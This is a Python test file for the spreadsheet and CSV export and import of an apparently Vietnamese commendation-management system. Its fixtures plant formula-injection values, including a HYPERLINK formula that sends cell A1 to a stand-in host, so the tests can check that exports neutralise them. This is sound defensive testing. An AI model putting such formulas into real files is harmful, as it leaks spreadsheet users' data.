"""What is written is read back: nothing to change, and nothing that would run."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from tests.support.counting import queries_of
from tests.support.invented import AT, actor_with, make_person, make_unit
from tests.support.sector import cluster_ten
from tests.thidua.exchange.conftest import nothing_is_saved
from thidua.documents.actions import Particulars, draft_document, register_document, void_document
from thidua.documents.enums import DocumentKind
from thidua.exchange.domain.book import write_book, write_csv
from thidua.exchange.enums import ExportKind, ImportKind
from thidua.exchange.queries import preview_import
from thidua.exchange.queries.exports import Export, export_of
from thidua.kernel import clock
from thidua.kernel.actors import ANONYMOUS, SYSTEM
from thidua.movements.actions import draft_movement
from thidua.movements.enums import MovementKind, MovementScope
from thidua.org.actions import create_unit, dissolve_unit, move_unit, rename_unit, set_code
from thidua.org.enums import Kind, Level, Scheme, Sector
from thidua.org.models import Unit
from thidua.people.actions import begin_post, end_post, open_account
from thidua.people.enums import Leadership, PostEnd, PostKind, Role
from thidua.records.actions import Rating, enter_rating
from thidua.records.enums import Grade
from thidua.registrations.actions import Line, add_registration
from thidua.registrations.enums import LineKind

NOW = clock.moment(date(2026, 3, 2), 9)
FORMULA = '=HYPERLINK("http://example.test/?"&A1,"Xem")'
FORMULAS = (FORMULA, "+84 912", "-1+2", "@SUM(A1:A9)", "'=1+1")


def room(name: str, parent: Unit, since: date | None = None) -> Unit:
    return create_unit(
        name=name,
        kind=Kind.ROOM,
        level=Level(parent.level),
        sector=Sector.OTHER,
        parent_id=parent.pk,
        since=since,
        actor=SYSTEM,
        at=AT,
    )


@pytest.fixture
def offices(db: None) -> list[Unit]:
    """Namesakes, a rename, a move, an end, a code, and names that would run."""
    since = date(2015, 6, 1)
    mau, khac = make_unit("VKSND tỉnh Mẫu", since=since), make_unit("VKSND tỉnh Khác")
    first, second = room("Phòng 1", mau, since), room("Phòng 1", khac)
    room("Tổ 1", first, since)
    room("Tổ 1", second)
    renamed = room("Phòng Cũ", mau, since)
    rename_unit(unit_id=renamed.pk, name="Phòng Mới", since=date(2020, 1, 1), actor=SYSTEM, at=AT)
    moved = room("Phòng Chuyển", mau, since)
    move_unit(unit_id=moved.pk, parent_id=khac.pk, since=date(2021, 1, 1), actor=SYSTEM, at=AT)
    below = room("Tổ dưới phòng mới", renamed, since)
    set_code(unit_id=below.pk, scheme=Scheme.OWN, code="T9", since=since, actor=SYSTEM, at=AT)
    ended = room("Phòng Thôi", mau, since)
    dissolve_unit(unit_id=ended.pk, last_day=date(2022, 1, 1), actor=SYSTEM, at=AT)
    for name in FORMULAS:
        room(name, mau, since)
    return [mau, khac, first, second, renamed]


@pytest.fixture
def persons(offices: list[Unit]) -> None:
    mau, _khac, first, second, renamed = offices
    for name, unit in (("Lê Ví Dụ", first), ("Lê Ví Dụ", second), (FORMULA, mau)):
        somebody = make_person(name)
        begin_post(
            person_id=somebody.pk,
            unit_id=unit.pk,
            position="Chuyên viên",
            start=date(2019, 5, 1),
            actor=SYSTEM,
            at=AT,
        )
    leader = make_person("Trần Văn Ví Dụ")
    for unit, leadership, kind in (
        (renamed, Leadership.HEAD, PostKind.REGULAR),
        (mau, Leadership.DEPUTY, PostKind.CONCURRENT),
    ):
        begin_post(
            person_id=leader.pk,
            unit_id=unit.pk,
            position=f"Lãnh đạo {unit.pk}",
            leadership=leadership,
            kind=kind,
            start=date(2018, 5, 1),
            actor=SYSTEM,
            at=AT,
        )
    open_account(person_id=leader.pk, username="tran.vidu", actor=SYSTEM, at=AT)
    gone = make_person("Phạm Thị Thí Dụ")
    post = begin_post(
        person_id=gone.pk,
        unit_id=mau.pk,
        position="Chuyên viên",
        start=date(2018, 5, 1),
        actor=SYSTEM,
        at=AT,
    )
    end_post(post_id=post.pk, end=date(2019, 5, 1), reason=PostEnd.RETIREMENT, actor=SYSTEM, at=AT)


@pytest.fixture
def papers(offices: list[Unit]) -> None:
    mau, _khac, _first, second, renamed = offices
    day = date(2024, 1, 5)
    facts: list[dict[str, object]] = [
        {"number": "9", "symbol": "KH-VKS", "issuer_id": mau.pk, "issued_on": day},
        {"number": "12a", "symbol": "KH-VKS", "issuer_id": mau.pk, "issued_on": day},
        {"number": "9", "symbol": "KH-P1", "issuer_id": second.pk, "issued_on": day},
        {"number": "7", "issuer_id": renamed.pk, "issued_on": date(2016, 2, 1)},
        {
            "number": "9",
            "symbol": "KH-HĐTĐKT",
            "issuer_id": mau.pk,
            "issuer_label": "Hội đồng Thi đua - Khen thưởng tỉnh Mẫu",
            "issued_on": day,
        },
        {
            "number": "98",
            "year_in_number": 2023,
            "symbol": "NĐ-CP",
            "issuer_label": "Chính phủ",
            "issued_on": date(2023, 12, 31),
        },
        {"number": "35", "symbol": "CT/TW", "issuer_label": "Bộ Chính trị"},
        {"issuer_label": "Báo Mẫu", "symbol": "TIN"},
        {"issuer_id": mau.pk, "issued_on": day, "note": "hỏa tốc", "signer": FORMULA},
    ]
    for place, fact in enumerate(facts):
        title = f"Việc {place}" if place else FORMULA
        particulars = Particulars(kind=DocumentKind.PLAN, title=title, **fact)  # type: ignore[arg-type]  # reason: facts of several types
        register_document(particulars, actor=SYSTEM, at=NOW)
    void = register_document(
        Particulars(
            kind=DocumentKind.PLAN, number="10", title="Hủy", issuer_id=mau.pk, issued_on=day
        ),
        actor=SYSTEM,
        at=NOW,
    )
    void_document(document_id=void.pk, reason="in hỏng", actor=SYSTEM, at=NOW)
    draft = Particulars(kind=DocumentKind.PLAN, title="Dự thảo", issuer_id=mau.pk)
    draft_document(draft, paper=None, actor=SYSTEM, at=NOW)


@pytest.fixture
def groups(offices: list[Unit]) -> None:
    enter_rating(
        Rating(year=2020, unit_id=offices[0].pk, grade=Grade.GOOD, note=FORMULA),
        actor=SYSTEM,
        at=NOW,
    )
    year = cluster_ten(offices[1], offices[2], year=2024)
    add_registration(
        Line(kind=LineKind.INITIATIVE, title=FORMULA),
        cluster_year_id=year.pk,
        unit_id=offices[2].pk,
        actor=SYSTEM,
        at=NOW,
    )
    draft_movement(
        launcher_id=offices[0].pk,
        name=FORMULA,
        year=2024,
        kind=MovementKind.REGULAR,
        scope=MovementScope.WHOLE_SECTOR,
        actor=SYSTEM,
        at=NOW,
    )


def files_of(export: Export) -> dict[str, bytes]:
    return {
        "danh-sach.xlsx": write_book(export.title, export.columns, export.rows),
        "danh-sach.csv": write_csv(export.columns, export.rows),
    }


def test_a_list_taken_out_and_brought_in_changes_nothing(persons: None, papers: None) -> None:
    for kind, count in ((ImportKind.UNITS, 14), (ImportKind.PEOPLE, 5), (ImportKind.DOCUMENTS, 9)):
        export = export_of(kind=kind, actor=SYSTEM, at=NOW)
        assert len(export.rows) == count
        for name, content in files_of(export).items():
            with nothing_is_saved():
                seen = preview_import(kind=kind, name=name, content=content, actor=SYSTEM, at=NOW)
            assert [str(error) for error in seen.errors] == []
            assert [row.title for row in seen.new] == []
            assert len(seen.present) == count


def test_every_kind_of_import_is_taken_out_too() -> None:
    assert set(ImportKind.values) <= set(ExportKind.values)


def test_nothing_in_a_file_would_run(persons: None, papers: None, groups: None) -> None:
    for kind in ExportKind.values:
        found = files_of(export_of(kind=kind, actor=SYSTEM, at=NOW))
        sheet = load_workbook(io.BytesIO(found["danh-sach.xlsx"])).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
        assert not any(cell.hyperlink for cell in cells)
        told = csv.reader(io.StringIO(found["danh-sach.csv"].decode("utf-8-sig"), newline=""))
        assert not [cell for row in told for cell in row if cell.startswith(("=", "+", "-", "@"))]
        # What would run is there, as text.
        assert kind == ExportKind.CLUSTERS or FORMULA in [cell.value for cell in cells]


def test_a_planted_formula_is_seen() -> None:
    book = load_workbook(io.BytesIO(write_book("Mẫu", (), [])))
    book.active["A1"] = FORMULA
    assert book.active["A1"].data_type == "f"


def test_rows_say_what_is_known(persons: None, papers: None, groups: None) -> None:
    def rows_of(kind: str) -> list[dict[str, object]]:
        export = export_of(kind=kind, actor=SYSTEM, at=NOW)
        keys = [column.key for column in export.columns]
        return [dict(zip(keys, row, strict=True)) for row in export.rows]

    units = {str(row["name"]): row for row in rows_of("units")}
    assert "Phòng Thôi" not in units
    assert units["Phòng Mới"]["since"] == date(2015, 6, 1)
    assert units["Phòng Chuyển"]["parent"] == "VKSND tỉnh Khác"
    assert units["Tổ dưới phòng mới"]["code"] == "T9"
    assert {row["parent"] for row in rows_of("units") if row["name"] == "Tổ 1"} == {
        "Phòng 1 (VKSND tỉnh Mẫu)",
        "Phòng 1 (VKSND tỉnh Khác)",
    }
    people = rows_of("people")
    assert [row["username"] for row in people if row["full_name"] == "Trần Văn Ví Dụ"] == [
        "tran.vidu",
        "",
    ]
    assert {row["unit"] for row in people} >= {"Phòng Cũ", "Phòng 1 (VKSND tỉnh Khác)"}
    documents = rows_of("documents")
    assert {row["number"] for row in documents} >= {"09/KH-VKS", "98/2023/NĐ-CP", "35-CT/TW", ""}
    assert not {"Hủy", "Dự thảo"} & {row["title"] for row in documents}
    [cluster] = rows_of("clusters")
    assert (cluster["name"], cluster["members"], cluster["head"]) == ("Cụm thi đua số 10", 1, "")
    [movement] = rows_of("movements")
    assert (movement["launcher"], movement["sent"]) == ("VKSND tỉnh Mẫu", None)


def test_only_what_the_actor_may_see_is_taken_out(persons: None, papers: None) -> None:
    officer = actor_with(Unit.objects.get(latest_name="VKSND tỉnh Mẫu"), Role.UNIT_OFFICER)
    people = export_of(kind="people", actor=officer, at=NOW)
    assert {row[-1] for row in people.rows} == {""}
    for kind in ExportKind.values:
        assert export_of(kind=kind, actor=ANONYMOUS, at=NOW).rows == ()


def test_more_rows_ask_no_more_often(persons: None, papers: None) -> None:
    def asked() -> list[int]:
        return [
            queries_of(lambda kind=kind: export_of(kind=kind, actor=SYSTEM, at=NOW))
            for kind in ImportKind.values
        ]

    before = asked()
    mau = Unit.objects.get(latest_name="VKSND tỉnh Mẫu")
    for number in range(3):
        room(f"Phòng thêm {number}", mau, date(2020, 1, 1))
        begin_post(
            person_id=make_person(f"Người thêm {number}").pk,
            unit_id=mau.pk,
            position="Chuyên viên",
            start=date(2020, 1, 1),
            actor=SYSTEM,
            at=AT,
        )
        register_document(
            Particulars(kind=DocumentKind.PLAN, title=f"Thêm {number}", issuer_id=mau.pk),
            actor=SYSTEM,
            at=NOW,
        )
    assert asked() == before
